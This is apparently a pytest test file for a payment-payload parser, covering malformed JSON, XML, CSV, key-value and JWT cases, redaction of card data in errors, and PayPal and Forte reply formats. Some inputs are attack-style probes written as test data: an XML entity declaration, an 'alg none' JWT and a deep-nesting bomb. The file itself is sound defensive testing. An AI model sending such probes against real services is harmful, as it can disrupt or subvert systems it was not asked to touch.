    with pytest.raises(PayloadParseError) as caught:
        parse_lake_data('{"pan": "4111111111111111", "status": ')
    assert caught.value.reason_code == MALFORMED_JSON
    assert "4111" not in caught.value.detail
    assert "column" in caught.value.detail


def test_malformed_json_in_a_wrapper():
    assert reason_of(json.dumps({"payload": '{"status": "ok"', "format": "json"})) == MALFORMED_JSON


def test_malformed_xml_detail_gives_position():
    with pytest.raises(PayloadParseError) as caught:
        parse_content("<payment><status>REFUSED</payment>")
    assert caught.value.reason_code == MALFORMED_XML
    assert "line 1" in caught.value.detail and "REFUSED" not in caught.value.detail


def test_parse_content_rejects_null():
    with pytest.raises(PayloadParseError) as caught:
        parse_content(None)
    assert caught.value.reason_code == EMPTY_PAYLOAD


# --- every reason code is reachable from lake data ------------------------------------------------------

REASON_EXAMPLES = {
    MALFORMED_JSON: '{"status": ',
    MALFORMED_XML: json.dumps({"content": "<a><b></a>", "format": "xml"}),
    XML_FORBIDDEN_CONSTRUCT: json.dumps({"content": '<!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>'}),
    MALFORMED_CSV: json.dumps({"content": "a,b\n1,2,3", "format": "csv"}),
    CSV_NO_RECORDS: json.dumps({"content": "a,b\n", "format": "csv"}),
    CSV_MULTIPLE_RECORDS: json.dumps({"content": "a,b\n1,2\n3,4"}),
    MALFORMED_KV: json.dumps({"content": "a=1&b", "format": "kv"}),
    UNRECOGNIZED_FORMAT: json.dumps({"content": "hello"}),
    MALFORMED_JWT: json.dumps({"payload": "eyJhbGciOiJub25lIn0.WzEsIDJd.", "provider": "2c2p"}),
    EMPTY_PAYLOAD: "{}",
    PAYLOAD_TOO_LARGE: json.dumps({"a": "x" * (MAX_PAYLOAD_BYTES + 1)}),
    PAYLOAD_TOO_DEEP: "[" * 5000 + "]" * 5000,
    NUL_BYTE: '{"a": "\\u0000"}',
    NOT_AN_OBJECT: "[1]",
    INVALID_UNICODE: '{"a": "\\ud800"}',
    NUMBER_OUT_OF_RANGE: '{"a": ' + "9" * 5000 + "}",
}


def test_reason_examples_cover_every_reason_code():
    assert set(REASON_EXAMPLES) == REASON_CODES


@pytest.mark.parametrize(("reason", "data"), sorted(REASON_EXAMPLES.items()))
def test_every_reason_code_is_reachable(reason, data):
    assert reason_of(data) == reason


def test_a_status_line_before_key_value_lines_is_kept_as_the_pdt_status():
    # PayPal Payment Data Transfer answers "SUCCESS" (or "FAIL") on the first line, then key=value lines.
    # Its values are URL-encoded.
    content = ("SUCCESS\nmc_gross=19.95\npayment_status=Completed\nmc_currency=EUR\ntxn_id=4VJ10912SE469052R\n"
               "payment_date=04%3A53%3A52+Apr+14%2C+2026+PDT\n")
    assert parse_content(content) == (FORMAT_KV, {"mc_gross": "19.95", "payment_status": "Completed",
                                                  "mc_currency": "EUR", "txn_id": "4VJ10912SE469052R",
                                                  "payment_date": "04:53:52 Apr 14, 2026 PDT",
                                                  "pdt_status": "SUCCESS"})


def test_a_forte_agi_reply_ends_with_an_endofdata_line_that_is_dropped():
    # developers.forte.net AGI: the pairs, one a line, then "endofdata".
    content = "pg_response_type=A\npg_response_code=A01\npg_response_description=APPROVAL\nendofdata\n"
    assert parse_content(content) == (FORMAT_KV, {"pg_response_type": "A", "pg_response_code": "A01",
                                                  "pg_response_description": "APPROVAL"})


@pytest.mark.parametrize("content", ["endofdata", "pg_response_type=A\nendofdata\npg_response_code=A01"])
def test_endofdata_alone_or_before_other_pairs_stays_malformed(content):
    with pytest.raises(PayloadParseError) as caught:
        parse_content(content, "kv")
    assert caught.value.reason_code == MALFORMED_KV
